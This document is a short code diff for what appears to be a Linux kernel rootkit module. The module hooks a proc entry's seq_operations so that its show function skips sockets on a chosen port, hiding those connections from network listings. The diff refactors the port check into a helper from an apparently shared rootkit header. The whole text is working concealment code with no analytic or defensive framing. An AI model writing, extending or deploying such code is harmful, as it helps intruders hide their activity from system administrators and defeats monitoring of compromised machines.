@@ -42,6 +42,8 @@ static long seq_ops_off = -1;
 module_param(seq_ops_off, long, 0444);
 MODULE_PARM_DESC(seq_ops_off, "offsetof(proc_dir_entry, seq_ops)");
 
+#include "rk_common.h"
+
 static const struct seq_operations **slot;
 static const struct seq_operations *orig_ops;
 static struct seq_operations fake_ops;
@@ -52,14 +54,8 @@ static int hook_show(struct seq_file *seq, void *v)
 	int ret = 0;
 
 	atomic_inc(&inflight);
-	if (v != SEQ_START_TOKEN) {
-		/* listener, established, request and timewait socks all start
-		 * with a struct sock_common */
-		const struct sock_common *skc = v;
-
-		if (skc->skc_num == port || ntohs(skc->skc_dport) == port)
-			goto out;
-	}
+	if (rk_sock_on_port(v, port))
+		goto out;
 	ret = orig_ops->show(seq, v);
 out:
 	atomic_dec(&inflight);
